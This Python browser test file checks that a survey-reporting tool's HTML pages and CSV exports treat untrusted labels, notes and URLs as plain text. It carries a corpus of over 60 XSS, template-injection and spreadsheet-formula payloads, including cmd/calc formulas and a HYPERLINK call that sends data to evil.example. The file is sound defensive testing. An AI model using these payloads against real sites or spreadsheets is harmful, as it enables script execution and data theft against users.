"""Labels, questions, notes, sources and names are untrusted: each reaches the page as text and runs nothing."""

from __future__ import annotations

import csv
import json
import shutil
from itertools import count, cycle
from pathlib import Path
from urllib.parse import urlsplit
from xml.etree import ElementTree

import numpy as np
import pytest
from conftest import make_report
from playwright.sync_api import Browser
from test_page import Seen, show
from waves.respondents import WAVE, respondents

from groundswell.checksum import checksum
from groundswell.waves.surveys.survey_toml import Disclosure
from groundswell.waves.toplines.row import COLUMNS

pytestmark = [pytest.mark.browser, pytest.mark.kernel]

HIT = "window.__hit=1"
PAYLOADS = [
    f"<script>{HIT}</script>",
    f"</script><script>{HIT}</script>",
    f"<ScRiPt>{HIT}</sCrIpT>",
    f"<script/x>{HIT}</script>",
    f"<<script>script>{HIT}<</script>/script>",
    f"<img src=x onerror={HIT}>",
    f"<img src=x onerror='{HIT}'>",
    f'"><img src=x onerror="{HIT}">',
    f"'><img src=x onerror='{HIT}'>",
    f"<svg onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<math><mtext><script>{HIT}</script></mtext></math>",
    f"<body onload={HIT}>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    f"<iframe src=javascript:parent.{HIT}></iframe>",
    f"<object data=javascript:{HIT}></object>",
    f"<embed src=javascript:{HIT}>",
    f"<a href=javascript:{HIT}>x</a>",
    f"<a href='java\tscript:{HIT}'>x</a>",
    f"<form action=javascript:{HIT}><button>x</button></form>",
    f"<button formaction=javascript:{HIT}>x</button>",
    f"<details open ontoggle={HIT}>x</details>",
    f"<input autofocus onfocus={HIT}>",
    f"<select autofocus onfocus={HIT}>",
    f"<textarea autofocus onfocus={HIT}></textarea>",
    f"<video><source onerror={HIT}></video>",
    f"<audio src=x onerror={HIT}>",
    f"<marquee onstart={HIT}>x</marquee>",
    f"<style>@import 'javascript:{HIT}'</style>",
    "</style><style>body{display:none}</style>",
    f"<link rel=stylesheet href=javascript:{HIT}>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<img src=https://evil.example/pixel.png>",
    f"<template><script>{HIT}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'></noscript>",
    f"<!--><script>{HIT}</script>-->",
    f"<![CDATA[<script>{HIT}</script>]]>",
    f"--><script>{HIT}</script>",
    f"</title><script>{HIT}</script>",
    f"</textarea><script>{HIT}</script>",
    f"</details></section></main><script>{HIT}</script>",
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
    f"&#60;script&#62;{HIT}&#60;/script&#62;",
    f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e",
    f"\u2028{HIT}\u2029",
    f"');{HIT};//",
    f'");{HIT};//',
    f"`;{HIT};//",
    f"${{{HIT}}}",
    "{{ 7*7 }}",
    "{% for x in [1] %}boom{% endfor %}",
    "{{ cycler.__init__.__globals__ }}",
    "{0.__class__}",
    "{share}",
    "%(share)s %s %d",
    "%{x}<extra>%{y}</extra>",
    f"<b onmouseover={HIT}>bold</b>",
    f"[x](javascript:{HIT})",
    f"![x](x onerror={HIT})",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"x")',
    "$$\\href{javascript:window.__hit=1}{x}$$",
]
HOSTILE_URL = "https://evil.example/'><script>window.__hit=1</script>?javascript:window.__hit=1"


def hostile_survey(folder: Path, payloads: list[str]) -> None:
    """A survey whose every free text is one of the payloads, each used at least once."""
    turn = cycle(payloads)

    def text() -> str:
        return (
            json.dumps(next(turn), ensure_ascii=False)
            .replace("\u2028", "\\u2028")
            .replace("\u2029", "\\u2029")
        )

    lines = [f"{key} = {text()}" for key in ("title", "universe", "geography", "licence")]
    lines += ["default_deff = 1.5", f"default_deff_source = {text()}"]
    lines += ["[shared_bias]", "sd = 0.1", f"source = {text()}"]
    keys = ("conducted_by", "population", "instruments", "sampling", "precision", "weighting", "limitations")
    lines += ["[disclosure]", *(f"{key} = {text()}" for key in keys)]
    lines += ["[[events]]", "date = 2024-03-01", f"label = {text()}", 'shock = "none"']
    for house in ("one", "two"):
        lines += [f"[houses.{house}]", f"name = {text()}", f"mode = {text()}"]
    lines += ["[indicators.mood]", f"title = {text()}", f"description = {text()}", 'higher_is = "worse"']
    for house in ("one", "two"):
        lines += [f"[indicators.mood.variants.{house}]", f'house = "{house}"', f"question = {text()}"]
        lines += ['numerator = ["yes"]', f"caution = {text()}"]
    folder.mkdir(parents=True)
    (folder / "survey.toml").write_text("\n".join(lines) + "\n", encoding="utf-8")
    with (folder / "toplines.csv").open("w", encoding="utf-8", newline="") as file:
        rows = csv.DictWriter(file, COLUMNS)
        rows.writeheader()
        for number in range(40):
            year, month = 2021 + number // 12, number % 12 + 1
            rows.writerow(
                {
                    "indicator": "mood",
                    "variant": ("one", "two")[number % 2],
                    "house": ("one", "two")[number % 2],
                    "category": "yes",
                    "share": f"0.4{number % 10}",
                    "start": f"{year}-{month:02}-01",
                    "end": f"{year}-{month:02}-03",
                    "precision": "day",
                    "n": 1000,
                    "source_title": next(turn),
                    "certainty": "verbatim_primary",
                    "note": next(turn),
                }
            )


def test_hostile_text_is_text(browser: Browser, repository: Path, tmp_path: Path) -> None:
    shutil.copytree(repository / "notebooks", tmp_path / "notebooks")
    mine = [payload.replace("\t", " ") for payload in PAYLOADS]
    hostile_survey(tmp_path / "surveys" / "hostile", mine)
    folder = make_report(tmp_path, "hostile", "--as-of", "2024-12-31")
    seen = show(browser, folder / "index.html")
    page = seen.page
    page.evaluate("document.querySelectorAll('details').forEach(part => { part.open = true })")
    for mark in page.locator(".plot .point").all()[:4]:
        mark.hover(force=True)
    assert page.evaluate("window.__hit") is None
    assert seen.troubles == []
    assert seen.outside(folder.parents[1]) == []
    words = " ".join(page.evaluate("document.body.textContent").split())
    assert [payload for payload in mine if " ".join(payload.split()) not in words] == []
    hrefs = page.evaluate(
        "[...document.querySelectorAll('[href],[src]')].map(e => e.getAttribute('href') ?? e.src)"
    )
    assert not [url for url in hrefs if url.strip().lower().startswith("javascript:")]


def rotated(place: int) -> str:
    """The whole corpus in one line of text, beginning with another payload in every field."""
    clean = [payload.replace("\t", " ") for payload in PAYLOADS]
    first = place * 7 % len(clean)
    return " ".join([*clean[first:], *clean[:first]])


def everything_hostile(project: Path) -> int:
    """A survey whose every free text is the whole corpus, with a wave of respondents; returns the number of fields."""
    places = count()

    def text() -> str:
        return json.dumps(rotated(next(places)))

    lines = [f"{key} = {text()}" for key in ("title", "universe", "geography", "licence", "sponsor")]
    lines += ["default_deff = 1.5", f"default_deff_source = {text()}"]
    lines += ["[shared_bias]", "sd = 0.1", f"source = {text()}"]
    lines += ["[disclosure]", *(f"{key} = {text()}" for key in Disclosure.model_fields)]
    lines += ["[[events]]", "date = 2024-03-01", f"label = {text()}", 'shock = "none"']
    for house in ("one", "two"):
        lines += [f"[houses.{house}]", f"name = {text()}", f"mode = {text()}", f'url = "{HOSTILE_URL}"']
        lines += ["default_deff = 1.2", f"default_deff_source = {text()}"]
    yes = text()
    lines += ["[indicators.mood]", f"title = {text()}", f"description = {text()}", 'higher_is = "worse"']
    for variant, house in (("one", "one"), ("two", "two"), ("old", "two")):
        lines += [f"[indicators.mood.variants.{variant}]", f'house = "{house}"', f"question = {text()}"]
        lines += [f"numerator = [{yes}]", f"caution = {text()}", f"period = {text()}", f"scale = {text()}"]
    lines += ["fit = false", f"fit_reason = {text()}"]
    folder = project / "surveys" / "hostile"
    (folder / "waves").mkdir(parents=True)
    (folder / "survey.toml").write_text("\n".join(lines) + "\n", encoding="utf-8")
    with (folder / "toplines.csv").open("w", encoding="utf-8", newline="") as file:
        rows = csv.DictWriter(file, COLUMNS)
        rows.writeheader()
        for month in range(1, 9):
            variant = ("one", "two", "old")[month % 3]
            cells = {"indicator": "mood", "variant": variant, "house": "two" if variant == "old" else variant}
            cells |= {"mode": rotated(next(places)), "category": json.loads(yes), "share": f"0.4{month}"}
            cells |= {
                "start": f"2024-0{month}-01",
                "end": f"2024-0{month}-03",
                "precision": "day",
                "n": "1000",
            }
            cells |= {"source_title": rotated(next(places)), "source_url": HOSTILE_URL}
            cells |= {"certainty": "verbatim_primary", "note": rotated(next(places))}
            rows.writerow(cells)
    people = respondents(60, 60, region=np.repeat([rotated(next(places)) for _ in range(3)], 40))
    people.to_csv(folder / "waves" / "01.csv", index=False)
    stated = WAVE.replace("acme", "one").replace("anxiety", "mood").replace("asked", "one")
    own = f'file = "01.csv"\nsha256 = "{checksum(folder / "waves" / "01.csv")}"\n'
    own += f"start = 2023-02-02\nend = 2023-02-09\nsource_title = {text()}\n"
    (folder / "waves" / "01.toml").write_text(own + stated, encoding="utf-8")
    return next(places)


def test_the_whole_corpus_through_every_field_runs_nothing_on_any_page(
    browser: Browser, repository: Path, tmp_path: Path
) -> None:
    shutil.copytree(repository / "notebooks", tmp_path / "notebooks")
    assert everything_hostile(tmp_path) > 60
    profile = make_report(tmp_path, "hostile", "--as-of", "2024-12-31", "--notebook", "wave_profile")
    folder = make_report(tmp_path, "hostile", "--as-of", "2024-12-31", "--single-file")
    reports = folder.parents[1]
    pages = [folder / "index.html", folder.with_name(f"{folder.name}.html"), profile / "index.html"]
    pages += [reports / "index.html", reports / "hostile" / "index.html"]
    for file in pages:
        seen = show(browser, file) if "plot" in file.read_text(encoding="utf-8") else glance(browser, file)
        seen.page.evaluate("document.querySelectorAll('details').forEach(part => { part.open = true })")
        assert seen.page.evaluate("window.__hit") is None, file
        assert seen.troubles == [], file
        assert seen.outside(reports) == [], file
        urls = seen.page.evaluate(
            "[...document.querySelectorAll('[href],[src]')].map(part => part.href || part.src)"
        )
        assert {urlsplit(url).scheme for url in urls} <= {"file", "data", "https", ""}, file
        assert all(url.startswith("data:text/csv") for url in urls if url.startswith("data:")), file
        seen.page.context.close()
    newest = browser.new_page()
    newest.goto((reports / "hostile" / "latest" / "index.html").as_uri())
    newest.wait_for_url(folder.joinpath("index.html").as_uri())  # it leads on by itself
    assert newest.evaluate("window.__hit") is None
    newest.close()
    assert len(ElementTree.parse(reports / "feed.xml").getroot()) > 3
    for table in [*folder.glob("*.csv"), *profile.glob("*.csv")]:
        with table.open(encoding="utf-8", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        risky = [
            cell
            for cell in cells
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not is_number(cell)
        ]
        assert risky == [], table.name


def glance(browser: Browser, file: Path) -> Seen:
    """Open a page that has no figure to wait for."""
    seen = Seen(browser.new_context(offline=True).new_page())
    seen.page.on("request", lambda request: seen.asked.append(request.url))
    seen.page.on("console", lambda message: seen.troubles.append(message.text))
    seen.page.on("pageerror", lambda error: seen.troubles.append(str(error)))
    seen.page.on("dialog", lambda dialog: seen.troubles.append(f"dialog: {dialog.message}"))
    seen.page.goto(file.resolve().as_uri())
    return seen


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_corpus_is_as_large_as_promised() -> None:
    assert len(set(PAYLOADS)) >= 60
